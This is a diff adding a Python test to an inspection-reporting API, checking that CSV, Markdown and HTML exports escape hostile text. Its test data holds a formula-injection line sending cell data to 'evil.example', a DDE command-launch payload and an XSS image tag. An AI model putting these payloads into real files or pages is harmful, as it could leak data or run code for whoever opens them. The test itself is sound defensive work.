@@ -613,3 +613,46 @@ async def test_summary_errors_and_roles(client: TestClient, keys: Keys, campaign
         await expect_problem(response, 422, "invalid-parameter", query)
     await expect_problem(await client.get(path, headers=keys.reporter), 403, "forbidden")
     await expect_problem(await client.get(path), 401, "unauthenticated")
+
+
+# --- Text from outside (the theme, free-text categories) is shown as written, never run. ---
+
+HOSTILE_CATEGORIES = ('=HYPERLINK("http://evil.example/?leak="&A1,"details")', "+cmd|' /C calc'!A0", "-2+3",
+                      "@SUM(A1:A9)", "<img src=x onerror=alert(1)>", "liquor | mooncake", "*bold* [link](http://x)")
+HOSTILE_THEME = "=1+1 <b>质量</b> | 第一"
+
+
+async def test_csv_cells_never_run_as_formulas_and_markdown_shows_text_as_written(
+        client: TestClient, keys: Keys) -> None:
+    opened = await client.post("/v1/campaigns", json=CAMPAIGN | {"theme": HOSTILE_THEME}, headers=keys.admin)
+    assert opened.status == 201, await opened.text()
+    await _post(client, keys, *(event("inspection_completed", data={
+        "batches_sampled": 10, "batches_passed": 9, "enterprises": 1, "category": category})
+        for category in HOSTILE_CATEGORIES))
+    await _projected(client, keys)
+    for lang in LANGS:
+        rows = list(csv.reader(io.StringIO((await _text(client, keys, "csv", lang)).removeprefix("\ufeff"))))
+        for row in rows:
+            for cell in row:  # OWASP CSV injection: what a spreadsheet would evaluate
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (lang, cell)
+        shown = {row[2] for row in rows[1:] if row[4] == "pass_rate" and row[1] == "000000"}
+        for category in HOSTILE_CATEGORIES:
+            assert ("'" + category if category[0] in "=+-@" else category) in shown, (lang, category, shown)
+
+        markdown = await _text(client, keys, "md", lang)
+        assert "<img" not in markdown, markdown
+        assert "<b>" not in markdown, markdown
+        heading = "按产品类别的抽检合格率" if lang == "zh" else "Pass rate by product category"
+        table = markdown.split(heading, 1)[1].split("\n## ", 1)[0]
+        rows_md = [line for line in table.splitlines() if line.startswith("| ") and "---" not in line][1:]
+        assert len(rows_md) == len(HOSTILE_CATEGORIES), table
+        for line in rows_md:  # four cells: an unescaped '|' in a category would make five
+            assert len(re.split(r"(?<!\\)\|", line.strip())) == 4 + 2, line
+        assert r"liquor \| mooncake" in table, table
+        assert "&lt;img src=x onerror=alert(1)&gt;" in table, table
+        assert r"\*bold\* \[link\](http://x)" in table, table
+        assert r"&lt;b&gt;质量&lt;/b&gt; \| 第一" in markdown, markdown
+
+        html = await _text(client, keys, "html", lang)
+        assert "<img src=x" not in html
+        assert "<b>质量" not in html
